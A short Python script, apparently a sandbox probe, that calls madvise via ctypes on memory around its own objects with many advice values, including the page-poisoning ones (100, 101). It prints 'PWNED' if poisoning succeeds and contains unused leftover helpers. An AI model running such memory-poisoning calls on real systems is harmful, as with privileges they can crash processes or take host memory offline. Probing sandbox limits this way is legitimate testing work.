# gives the kernel every kind of advice on the memory around its objects, two of them a way to poison pages
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
L = ctypes.c_long
def text(name='PyRun_SimpleString'):
    return ctypes.cast(getattr(ctypes.pythonapi, name), ctypes.c_void_p).value
page = id(object()) & ~0x1fffff
bad = []
for advice in (9, 10, 12, 14, 15, 18, 20, 21, 22, 24, 25, 100, 101):
    for at in range(page - (4 << 20), page + (4 << 20), 2 << 20):
        if libc.madvise(L(at), L(2 << 20), advice) == 0 and advice in (100, 101): print("PWNED")
print("clean")
